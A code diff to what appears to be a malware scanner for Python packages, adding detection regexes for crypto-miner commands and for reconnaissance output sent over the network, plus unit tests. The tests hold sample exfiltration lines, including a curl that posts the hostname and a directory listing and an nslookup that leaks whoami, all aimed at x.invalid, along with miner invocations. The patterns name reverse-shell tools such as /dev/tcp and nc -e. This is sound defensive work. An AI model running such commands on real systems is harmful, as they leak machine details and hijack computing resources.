@@ -61,6 +61,7 @@ static DOWNLOADER_COMMAND: LazyLock<Regex> = crate::static_regex!(
       |mshta|start-bitstransfer|invoke-restmethod)\b
     | /dev/tcp/ | \bnc\s+-[a-z]*e | \|\s*(ba|z|da)?sh\b | base64\s+(-d|--decode) | -encodedcommand | \s-enc\s
     | https?://\S+\.(exe|scr|msi|bat|ps1|vbs|hta|jar|dll)\b
+    | stratum\+(tcp|ssl):// | \bxmrig\b | --donate-level | \b(supportxmr|minexmr|moneroocean|hashvault|nanopool|nicehash)\b
     | \bshutdown(\.exe)?\s+[/-][srf]\b | \brm\s+-[a-z]*r[a-z]*f?\s+/(\s|$|\*) | \bformat\s+[a-z]:
     | \breg(\.exe)?\s+add\b.*\\(run|runonce)\b
     "
@@ -76,6 +77,23 @@ static SHELL_TRICK_COMMAND: LazyLock<Regex> = crate::static_regex!(
     | \bchmod\s+[+0-7]*x | \bchmod\s+7[0-7][0-7]\b | ^\s*(ba|z)?sh\s+/tmp/ | /tmp/\S+\s*&\s*$
     "
 );
+
+/// A network tool fed with the output of reconnaissance commands: `curl -H "Hostname:
+/// $(hostname)" -d "$(ls -la)" https://...` reports the machine to its author.
+static RECON_SUBSTITUTION: LazyLock<Regex> = crate::static_regex!(
+    r"(?ix)
+    (\$\(|`)\s*(hostname|whoami|id|pwd|uname|ls|env|printenv|ifconfig|ipconfig|cat\s+/etc/(passwd|hosts|shadow))\b
+    "
+);
+
+static NETWORK_TOOL: LazyLock<Regex> = crate::static_regex!(
+    r"(?i)\b(curl|wget|nc|ncat|nslookup|dig|ping|host|invoke-webrequest|invoke-restmethod|iwr)\b"
+);
+
+/// True when a command line sends the output of reconnaissance commands over the network.
+pub fn is_recon_exfiltration(command: &str) -> bool {
+    RECON_SUBSTITUTION.is_match(command) && NETWORK_TOOL.is_match(command)
+}
 
 /// True when a command line fetches or decodes a second stage.
 pub fn is_dangerous_command(command: &str) -> bool {
@@ -139,6 +157,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let command = command_arg.and_then(|arg| super::command_text(checker, arg));
     let partial = command_arg.and_then(|arg| super::partial_command_text(checker, arg));
     let shown = super::argument_text(checker, call);
+    checker.note_program(command.as_ref().or(partial.as_ref()).unwrap_or(&shown));
     check_hidden_window(checker, call, qualname, context);
     let (severity, tags, message) = match (&command, &partial) {
         (None, Some(partial)) if is_dangerous_command(partial) || is_shell_trick(partial) => (
@@ -232,6 +251,19 @@ fn classify_command(
     shown: &str,
 ) -> (f64, Vec<&'static str>, String) {
     match command {
+        Some(command) if is_recon_exfiltration(command) => (
+            // No library reports `whoami` to a server; this is malicious whenever it runs.
+            match context {
+                ExecContext::Install | ExecContext::Import => 0.92,
+                ExecContext::Runtime => 0.75,
+                ExecContext::TestOrDocs => 0.3,
+            },
+            vec!["spawn", "shell-dropper", "recon-exfil"],
+            format!(
+                "{qualname} runs `{}`, which sends the output of reconnaissance commands over the network",
+                crate::text::shorten(command, 160)
+            ),
+        ),
         Some(command) if is_dangerous_command(command) => (
             match context {
                 ExecContext::Install | ExecContext::Import => 0.9,
@@ -312,6 +344,31 @@ mod tests {
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
         let code = "from subprocess import Popen as P\nP(['powershell', '-w', 'hidden', '-enc', 'AAAA'])\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.9);
+    }
+
+    #[test]
+    fn recon_sent_by_a_shell_is_severe_even_when_called() {
+        assert!(is_recon_exfiltration(
+            "curl -X POST -H \"Hostname: $(hostname)\" -d \"$(ls -la)\" https://x.invalid"
+        ));
+        assert!(is_recon_exfiltration("nslookup `whoami`.x.invalid"));
+        assert!(!is_recon_exfiltration(
+            "curl -o out.tgz https://x.invalid/a.tgz"
+        ));
+        assert!(!is_recon_exfiltration("echo $(hostname)"));
+        let code = "import subprocess\ndef go():\n    subprocess.run('curl -d \"$(whoami)\" https://x.invalid', shell=True)\n";
+        assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.7);
+    }
+
+    #[test]
+    fn miners_are_dropper_commands() {
+        assert!(is_dangerous_command(
+            "./krot -o pool.supportxmr.com:443 -u 44Zpt -k --tls"
+        ));
+        assert!(is_dangerous_command(
+            "xmrig -o stratum+tcp://x.invalid:3333"
+        ));
+        assert!(!is_dangerous_command("pip download pool"));
     }
 
     #[test]
